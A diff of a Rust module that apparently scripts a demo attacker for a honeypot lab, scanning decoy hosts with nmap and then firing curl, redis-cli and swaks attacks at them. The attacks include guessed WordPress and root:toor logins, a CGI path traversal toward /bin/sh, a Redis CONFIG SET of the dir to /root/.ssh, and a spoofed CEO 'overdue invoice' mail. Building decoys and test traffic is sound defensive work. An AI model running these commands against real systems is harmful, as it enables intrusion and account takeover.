@@ -1,34 +1,28 @@
-//! What the attacker does: a scan, then one client for each service it found.
+//! What the attacker does: a scan, then some clients for each service that it found.
 
 use std::net::Ipv4Addr;
 
+use anyhow::Result;
 use decnet_proto::agent::DeckyStatus;
-use lab::{attacker, process, workspace};
 
-use crate::tty;
+use super::live::Screen;
 
-/// A client, and the service it goes for.
-struct Attack {
-    service: &'static str,
-    script: fn(Ipv4Addr) -> Vec<String>,
-}
+/// What is done to one address.
+type Attack = fn(&str, &mut Screen) -> Result<()>;
 
-const ATTACKS: [Attack; 5] = [
-    Attack { service: "http", script: web_login },
-    Attack { service: "https", script: web_secret },
-    Attack { service: "ftp", script: upload },
-    Attack { service: "redis", script: keys },
-    Attack { service: "smtp", script: mail },
-];
+/// Each on the first decky that has the service.
+const ATTACKS: [(&str, Attack); 5] =
+    [("http", web), ("https", secret), ("ftp", upload), ("redis", redis), ("smtp", mail)];
 
 /// Runs all of it from the attacker's namespace.
-pub(super) fn run(deckies: &[DeckyStatus]) {
-    scan(deckies);
-    for attack in &ATTACKS {
-        if let Some(ip) = target(deckies, attack.service) {
-            client(&(attack.script)(ip));
+pub(super) fn run(deckies: &[DeckyStatus], screen: &mut Screen) -> Result<()> {
+    scan(deckies, screen)?;
+    for (service, attack) in ATTACKS {
+        if let Some(ip) = target(deckies, service) {
+            attack(&ip.to_string(), screen)?;
         }
     }
+    Ok(())
 }
 
 /// The address of the first decky with a service.
@@ -37,65 +31,41 @@ fn target(deckies: &[DeckyStatus], service: &str) -> Option<Ipv4Addr> {
     deckies.iter().find(has).and_then(|decky| decky.ip)
 }
 
-fn scan(deckies: &[DeckyStatus]) {
-    let ips = deckies.iter().filter_map(|decky| decky.ip).map(|ip| ip.to_string());
-    let ports = ["-sV", "-n", "-p", "21,25,80,443,587,6379", "--open", "--host-timeout", "90s"];
-    client(&["nmap"].into_iter().chain(ports).map(str::to_owned).chain(ips).collect::<Vec<_>>());
-}
-
-/// Runs a client, whose failure is part of the show, and prints what it says.
-fn client(words: &[String]) {
-    let Some((program, arguments)) = words.split_first() else { return };
-    println!("\n{} {}", tty::bold("attacker$"), tty::bold(&words.join(" ")));
-    match attacker::command(program, arguments).output() {
-        Ok(output) => {
-            for line in process::both(&output).lines().filter(|line| !line.trim().is_empty()).take(40) {
-                println!("    {}", tty::dim(line));
-            }
-        }
-        Err(error) => println!("    {}", tty::red(&error.to_string())),
-    }
-}
-
-fn words(words: &[&str]) -> Vec<String> {
-    words.iter().map(|word| (*word).to_owned()).collect()
-}
-
-fn web_login(ip: Ipv4Addr) -> Vec<String> {
-    let url = format!("http://{ip}/wp-login.php");
-    words(&["curl", "-sS", "-i", "-m", "10", "-d", "log=admin&pwd=Summer2026!", &url])
-}
-
-fn web_secret(ip: Ipv4Addr) -> Vec<String> {
-    words(&["curl", "-sS", "-k", "-I", "-m", "10", "-u", "root:toor", &format!("https://{ip}/admin/")])
-}
-
-fn upload(ip: Ipv4Addr) -> Vec<String> {
-    let file = workspace::root().join("README.md");
-    let url = format!("ftp://{ip}/incoming/notes.txt");
-    words(&[
-        "curl",
-        "-sS",
-        "-m",
-        "20",
-        "-u",
-        "anonymous:guest@example.net",
-        "-T",
-        &file.to_string_lossy(),
-        &url,
-    ])
-}
-
-fn keys(ip: Ipv4Addr) -> Vec<String> {
-    words(&["redis-cli", "-h", &ip.to_string(), "CONFIG", "SET", "dir", "/root/.ssh"])
-}
-
-fn mail(ip: Ipv4Addr) -> Vec<String> {
-    let ip = ip.to_string();
-    let login = ["--auth", "LOGIN", "--auth-user", "mkeller", "--auth-password", "Winter2025"];
+fn scan(deckies: &[DeckyStatus], screen: &mut Screen) -> Result<()> {
+    let ips: Vec<_> = deckies.iter().filter_map(|decky| decky.ip).map(|ip| ip.to_string()).collect();
     let mut words =
-        words(&["swaks", "--server", &ip, "--from", "ceo@example.net", "--to", "staff@example.org"]);
-    words.extend(login.map(str::to_owned));
-    words.extend(["--tls-optional", "--timeout", "10", "--hide-all"].map(str::to_owned));
-    words
+        vec!["nmap", "-sV", "-n", "-p", "21,25,80,443,587,6379", "--open", "--host-timeout", "90s"];
+    words.extend(ips.iter().map(String::as_str));
+    screen.run(&words, 120)
+}
+
+fn web(ip: &str, screen: &mut Screen) -> Result<()> {
+    let page = format!("http://{ip}/wp-login.php");
+    screen.run(&["curl", "-sS", "-i", "-m", "10", "-d", "log=admin&pwd=Summer2026!", &page], 8)?;
+    let traversal = format!("http://{ip}/cgi-bin/.%2e/.%2e/.%2e/bin/sh");
+    screen.run(&["curl", "-sS", "-i", "-m", "10", "--path-as-is", &traversal], 8)
+}
+
+fn secret(ip: &str, screen: &mut Screen) -> Result<()> {
+    let page = format!("https://{ip}/admin/");
+    screen.run(&["curl", "-sS", "-k", "-I", "-m", "10", "-u", "root:toor", &page], 8)
+}
+
+fn upload(ip: &str, screen: &mut Screen) -> Result<()> {
+    let url = format!("ftp://{ip}/incoming/notes.txt");
+    screen.run(&["curl", "-sS", "-m", "20", "-u", "anonymous:guest@example.net", "-T", "README.md", &url], 8)
+}
+
+fn redis(ip: &str, screen: &mut Screen) -> Result<()> {
+    screen.run(&["redis-cli", "-h", ip, "INFO", "server"], 6)?;
+    screen.run(&["redis-cli", "-h", ip, "CONFIG", "SET", "dir", "/root/.ssh"], 4)
+}
+
+fn mail(ip: &str, screen: &mut Screen) -> Result<()> {
+    let quiet = ["--timeout", "10", "--suppress-data"];
+    let message = ["swaks", "--server", ip, "--from", "ceo@example.net", "--to", "postmaster", "-tls"];
+    let subject = ["--header", "Subject: overdue invoice"];
+    screen.run(&[&message[..], &subject, &quiet].concat(), 60)?;
+    let login = ["--auth", "LOGIN", "--auth-user", "mkeller", "--auth-password", "Winter2025"];
+    screen.run(&[&message[..], &login, &quiet].concat(), 60)
 }
